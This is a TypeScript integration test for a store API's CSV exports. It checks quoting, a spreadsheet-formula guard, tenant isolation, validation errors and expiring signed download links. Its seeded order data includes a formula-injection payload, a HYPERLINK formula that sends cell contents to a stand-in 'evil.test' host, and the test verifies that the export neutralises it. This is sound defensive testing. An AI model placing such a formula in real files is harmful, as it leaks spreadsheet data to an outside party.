// The accountant's CSV exports (issue 14, docs/exports.md), real API + worker + Postgres + Redis:
// content (BOM, CRLF, RFC 4180 quoting, the formula guard, integer KES, Nairobi ISO times),
// another store's rows never in a file, filters, refusals naming the field, staff refused, and a
// background export from request to a signed download link that expires (410).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { useApiStack } from '../helpers/api-fixture.ts';
import { demoLogin, jsonCaller } from '../helpers/http.ts';
import { waitFor } from '../helpers/wait.ts';

const STORE = 'saa-bora';
const OTHER = 'nairobi-gadgets';
const RANGE = 'from=2025-03-01&to=2025-03-31';
const stack = useApiStack({ worker: true });

interface ExportView {
  id: string;
  status: string;
  rowsDone: number;
  rowsEstimate: number;
  progress: number;
  expired: boolean;
  download: { path: string; expiresAt: string } | null;
}
interface Answer {
  export: ExportView;
  exports: ExportView[];
  rows: number;
  suggested: string;
  error: { code: string; message: string; details: { issues?: { path: string; message: string }[] } };
}
const call = jsonCaller<Answer>(() => stack.api.url, '10.36');
let owner: string;
let staff: string;
let otherOwner: string;

/** One store's March 2025 books: two orders in range (tricky text on purpose), one after it. */
async function books(slug: string, name: string) {
  const tenant = stack.tenantOf(slug);
  const sql = stack.sql;
  const [variant] = await sql<{ id: string; sku: string }>(
    `SELECT id, sku FROM product_variants WHERE tenant_id = $1 ORDER BY sku LIMIT 1`,
    [tenant],
  );
  const order = async (n: number, at: string, status: string, channel: string, customer: string) => {
    const [row] = await sql<{ id: string }>(
      `INSERT INTO orders (tenant_id, number, status, channel, phone, customer_name, area_slug, subtotal_kes, delivery_fee_kes, total_kes, vat_kes, idempotency_key, request_hash, created_at)
       VALUES ($1, $2::int, $3, $4, '254700000123', $5, 'kilimani', 1500, 200, 1700, 234, 'exports-' || $2::int::text, 'x', $6) RETURNING id`,
      [tenant, n, status, channel, customer, at],
    );
    return row!.id;
  };
  const line = (orderId: string, n: number, title: string, qty: number) =>
    sql(
      `INSERT INTO order_items (tenant_id, order_id, line, variant_id, sku, title, options, unit_price_kes, quantity, line_total_kes)
       VALUES ($1, $2, $3, $4, $5, $6, '{"Colour":"Red","Size":"M"}', 750, $7, 750 * $7)`,
      [tenant, orderId, n, variant!.id, variant!.sku, title, qty],
    );
  const first = await order(910001, '2025-03-10T10:00:00+03:00', 'paid', 'web', name);
  await line(first, 1, '=HYPERLINK("http://evil.test/?"&A1,"Click")', 1);
  await line(first, 2, 'Kikoi, "striped"\nline two', 1);
  const second = await order(910002, '2025-03-20T23:30:00+03:00', 'cancelled', 'whatsapp', '@admin');
  await line(second, 1, 'Sufuria', 2);
  const later = await order(910003, '2025-04-01T00:00:00+03:00', 'paid', 'web', 'April shopper');
  await line(later, 1, 'Sufuria', 1);
  const [payment] = await sql<{ id: string }>(
    `INSERT INTO payments (tenant_id, order_id, method, status, amount_kes, phone, receipt_number, paid_amount_kes, created_at, resolved_at)
     VALUES ($1, $2, 'stk', 'paid', 1700, '254700000123', $3, 1700, '2025-03-10T10:00:30+03:00', '2025-03-10T10:01:00+03:00') RETURNING id`,
    [tenant, first, slug === STORE ? 'SCA1B2C3D4' : 'OTHERRCPT1'],
  );
  await sql(
    `INSERT INTO payments (tenant_id, order_id, method, status, outcome, amount_kes, phone, result_code, result_desc, created_at, resolved_at)
     VALUES ($1, $2, 'stk', 'failed', 'cancelled', 400, '254700000123', '1032', 'Request cancelled by user', '2025-03-20T23:31:00+03:00', '2025-03-20T23:32:00+03:00')`,
    [tenant, second],
  );
  await sql(
    `INSERT INTO refunds (tenant_id, order_id, payment_id, amount_kes, method, status, reason, requested_by, originator_conversation_id, transaction_id, created_at, resolved_at)
     VALUES ($1::uuid, $2, $3, 500, 'reversal', 'completed', '-damaged on arrival', 'owner', 'conv-' || $1::uuid::text, 'SCR9Z8Y7X6', '2025-03-11T09:00:00+03:00', '2025-03-11T09:05:00+03:00')`,
    [tenant, first, payment!.id],
  );
  await sql(
    `INSERT INTO inventory_movements (tenant_id, variant_id, kind, quantity, reason, created_at)
     VALUES ($1, $2, 'restock', 5, '+bonus carton', '2025-03-05T08:00:00+03:00')`,
    [tenant, variant!.id],
  );
  await sql(
    `INSERT INTO payment_reconciliations (tenant_id, day, totals, mismatches) VALUES ($1, '2025-03-10', $2, $3)`,
    [
      tenant,
      JSON.stringify({
        orders: 1,
        paidOrders: 1,
        attempts: 1,
        paidAttempts: 1,
        failedAttempts: 0,
        openAttempts: 0,
        receivedKes: 1700,
        refundedKes: 0,
      }),
      JSON.stringify([
        { kind: 'amount_mismatch', orderNumber: 910001, receipt: 'SCA1B2C3D4', detail: 'paid 1,600 of 1,700' },
      ]),
    ],
  );
  return variant!.sku;
}

let sku = '';
stack.before(async () => {
  owner = (await demoLogin(call, STORE, 'owner')).accessToken;
  staff = (await demoLogin(call, STORE, 'staff')).accessToken;
  otherOwner = (await demoLogin(call, OTHER, 'owner')).accessToken;
  sku = await books(STORE, 'Otieno, "Baba" Juma');
  await books(OTHER, 'OTHER STORE SECRET');
});

async function csv(path: string, token = owner) {
  const res = await fetch(`${stack.api.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes, text: bytes.toString('utf8') };
}
function records(text: string): Record<string, string>[] {
  return parse<Record<string, string>>(text, { bom: true, columns: true, record_delimiter: '\r\n' });
}

describe('direct CSV exports', () => {
  test('orders: BOM, CRLF, quoting, formula guard, integer KES, Nairobi times, only this store and range', async () => {
    const res = await csv(`/v1/owner/exports/orders.csv?${RANGE}`);
    assert.equal(res.status, 200, res.text);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(res.headers.get('content-disposition') ?? '', /orders-2025-03-01-to-2025-03-31\.csv/);
    assert.deepEqual([...res.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM first');
    assert.ok(res.text.includes('\r\n'), 'CRLF record ends');
    assert.ok(!res.text.includes('OTHER STORE SECRET'), 'never another store');
    assert.ok(res.text.includes('"Otieno, ""Baba"" Juma"'), 'RFC 4180: comma and quotes quoted, quotes doubled');
    assert.ok(res.text.includes('"Kikoi, ""striped""\nline two"'), 'a line break stays inside its quoted cell');
    const rows = records(res.text);
    assert.equal(rows.length, 3, 'three lines of two orders (April is out of range)');
    const [a, b, c] = rows;
    assert.equal(a!.order_number, '910001');
    assert.equal(a!.created_at, '2025-03-10T10:00:00+03:00');
    assert.equal(a!.item, `'=HYPERLINK("http://evil.test/?"&A1,"Click")`, 'formula start prefixed');
    assert.equal(a!.options, 'Colour: Red; Size: M');
    assert.equal(a!.total_kes, '1700');
    assert.equal(a!.sku, sku);
    assert.equal(b!.line, '2');
    assert.equal(c!.customer_name, "'@admin");
    assert.equal(c!.created_at, '2025-03-20T23:30:00+03:00', 'Nairobi day, not UTC');
    assert.equal(c!.line_total_kes, '1500');
  });

  test('filters: status and channel', async () => {
    const paid = records((await csv(`/v1/owner/exports/orders.csv?${RANGE}&status=paid`)).text);
    assert.deepEqual(new Set(paid.map((r) => r.order_number)), new Set(['910001']));
    const whatsapp = records(
      (await csv(`/v1/owner/exports/orders.csv?${RANGE}&channel=whatsapp,web&status=cancelled`)).text,
    );
    assert.deepEqual(
      whatsapp.map((r) => r.order_number),
      ['910002'],
    );
    const failed = records((await csv(`/v1/owner/exports/payments.csv?${RANGE}&status=failed`)).text);
    assert.equal(failed.length, 1);
    assert.equal(failed[0]!.result_code, '1032');
  });

  test('payments with M-Pesa receipts, refunds, payouts, stock, reconciliation', async () => {
    const payments = records((await csv(`/v1/owner/exports/payments.csv?${RANGE}`)).text);
    assert.equal(payments.length, 2);
    assert.equal(payments[0]!.mpesa_receipt, 'SCA1B2C3D4');
    assert.equal(payments[0]!.paid_amount_kes, '1700');
    assert.equal(payments[0]!.resolved_at, '2025-03-10T10:01:00+03:00');
    assert.ok(!payments.some((p) => p.mpesa_receipt === 'OTHERRCPT1'));

    const refunds = records((await csv(`/v1/owner/exports/refunds.csv?${RANGE}`)).text);
    assert.deepEqual(
      refunds.map((r) => [r.order_number, r.payment_receipt, r.amount_kes, r.status, r.reason, r.mpesa_transaction]),
      [['910001', 'SCA1B2C3D4', '500', 'completed', "'-damaged on arrival", 'SCR9Z8Y7X6']],
    );

    const payouts = records((await csv(`/v1/owner/exports/payouts.csv?${RANGE}`)).text);
    assert.deepEqual(
      payouts.map((r) => [
        r.day,
        r.payments_received,
        r.received_kes,
        r.refunds_completed,
        r.refunded_kes,
        r.net_to_settle_kes,
      ]),
      [
        ['2025-03-10', '1', '1700', '0', '0', '1700'],
        ['2025-03-11', '0', '0', '1', '500', '-500'],
      ],
    );

    const stock = records((await csv(`/v1/owner/exports/stock.csv?${RANGE}&movement=restock`)).text);
    assert.deepEqual(
      stock.map((r) => [r.created_at, r.sku, r.movement, r.quantity, r.reason]),
      [['2025-03-05T08:00:00+03:00', sku, 'restock', '5', "'+bonus carton"]],
    );

    const recon = records((await csv(`/v1/owner/exports/reconciliation.csv?${RANGE}`)).text);
    assert.deepEqual(
      recon.map((r) => [r.day, r.line, r.received_kes, r.exceptions, r.exception_kind, r.order_number, r.detail]),
      [
        ['2025-03-10', 'totals', '1700', '1', '', '', ''],
        ['2025-03-10', 'exception', '', '', 'amount_mismatch', '910001', 'paid 1,600 of 1,700'],
      ],
    );
  });

  test('bad input is refused naming the field, never a 500', async () => {
    const field = async (path: string) => {
      const res = await call('GET', path, undefined, owner);
      assert.equal(res.status, 400, `${path}: ${JSON.stringify(res.body)}`);
      return res.body.error.details.issues!.map((i) => `${i.path}: ${i.message}`).join('; ');
    };
    assert.match(await field('/v1/owner/exports/orders.csv?to=2025-03-31'), /^from:/);
    assert.match(
      await field('/v1/owner/exports/orders.csv?from=2025-02-30&to=2025-03-31'),
      /^from: not a calendar day/,
    );
    assert.match(
      await field('/v1/owner/exports/orders.csv?from=2025-03-31&to=2025-03-01'),
      /^to: must be on or after from/,
    );
    assert.match(await field('/v1/owner/exports/orders.csv?from=2024-01-01&to=2025-03-01'), /^to: at most 366 days/);
    assert.match(await field(`/v1/owner/exports/orders.csv?${RANGE}&status=shipped`), /^status\.0: one or more of/);
    assert.match(await field(`/v1/owner/exports/orders.csv?${RANGE}&movement=sale`), /movement/);
    const unknown = await call('GET', `/v1/owner/exports/salaries.csv?${RANGE}`, undefined, owner);
    assert.equal(unknown.status, 404);
    const job = await call('POST', '/v1/owner/exports/jobs', { kind: 'orders', from: '2025-03-01' }, owner);
    assert.equal(job.status, 400);
    assert.equal(job.body.error.details.issues![0]!.path, 'to');
    const kind = await call(
      'POST',
      '/v1/owner/exports/jobs',
      { kind: 'salaries', from: '2025-03-01', to: '2025-03-02' },
      owner,
    );
    assert.equal(kind.status, 400);
    assert.equal(kind.body.error.details.issues![0]!.path, 'kind');
  });

  test('staff cannot export money', async () => {
    assert.equal((await csv(`/v1/owner/exports/payments.csv?${RANGE}`, staff)).status, 403);
    const job = await call(
      'POST',
      '/v1/owner/exports/jobs',
      { kind: 'orders', from: '2025-03-01', to: '2025-03-31' },
      staff,
    );
    assert.equal(job.status, 403);
    assert.equal((await call('GET', '/v1/owner/exports/jobs', undefined, staff)).status, 403);
  });

  test('estimate says how many rows and whether to run a job', async () => {
    const res = await call('GET', `/v1/owner/exports/estimate/orders?${RANGE}`, undefined, owner);
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(res.body.rows, 3);
    assert.equal(res.body.suggested, 'direct');
  });
});

describe('background export', () => {
  test('job -> progress -> signed link -> same bytes as direct; tampered 403; expired 410; other store 404', async () => {
    const started = await call(
      'POST',
      '/v1/owner/exports/jobs',
      { kind: 'orders', from: '2025-03-01', to: '2025-03-31' },
      owner,
    );
    assert.equal(started.status, 202, JSON.stringify(started.body));
    assert.equal(started.body.export.rowsEstimate, 3);
    const id = started.body.export.id;
    const done = await waitFor(
      'export job done',
      async () => {
        const res = await call('GET', `/v1/owner/exports/jobs/${id}`, undefined, owner);
        return res.body.export.status === 'done' ? res.body.export : undefined;
      },
      60_000,
    );
    assert.equal(done.rowsDone, 3);
    assert.equal(done.progress, 1);
    assert.ok(done.download, 'a download link');
    const hours = (Date.parse(done.download.expiresAt) - Date.now()) / 3600_000;
    assert.ok(hours > 23.9 && hours <= 24, `link valid 24 h (${hours})`);

    const file = await fetch(`${stack.api.url}${done.download.path}`);
    const bytes = Buffer.from(await file.arrayBuffer());
    assert.equal(file.status, 200);
    const direct = await csv(`/v1/owner/exports/orders.csv?${RANGE}`);
    assert.ok(bytes.equals(direct.bytes), 'the job writes the same file as a direct download');

    const tampered = await fetch(`${stack.api.url}${done.download.path.replace(/sig=./, 'sig=A')}`);
    assert.equal(tampered.status, 403);
    const otherTenant = done.download.path.replace(stack.tenantOf(STORE), stack.tenantOf(OTHER));
    assert.equal((await fetch(`${stack.api.url}${otherTenant}`)).status, 403, 'a link names one store');
    assert.equal((await call('GET', `/v1/owner/exports/jobs/${id}`, undefined, otherOwner)).status, 404);
    const theirs = await call('GET', '/v1/owner/exports/jobs', undefined, otherOwner);
    assert.ok(!theirs.body.exports.some((e) => e.id === id));

    await stack.sql(`UPDATE export_jobs SET expires_at = now() - interval '1 minute' WHERE id = $1`, [id]);
    const gone = await fetch(`${stack.api.url}${done.download.path}`);
    const body = (await gone.json()) as Answer;
    assert.equal(gone.status, 410);
    assert.equal(body.error.code, 'link_expired');
    assert.match(body.error.message, /expired on .* Start the export again/);
    const view = await call('GET', `/v1/owner/exports/jobs/${id}`, undefined, owner);
    assert.equal(view.body.export.expired, true);
    assert.equal(view.body.export.download, null);

    const audit = await stack.sql<{ action: string }>(
      `SELECT action FROM audit_log WHERE tenant_id = $1 AND action LIKE 'export.%'`,
      [stack.tenantOf(STORE)],
    );
    const actions = new Set(audit.map((a) => a.action));
    for (const a of ['export.downloaded', 'export.requested', 'export.file_downloaded']) assert.ok(actions.has(a), a);
  });
});
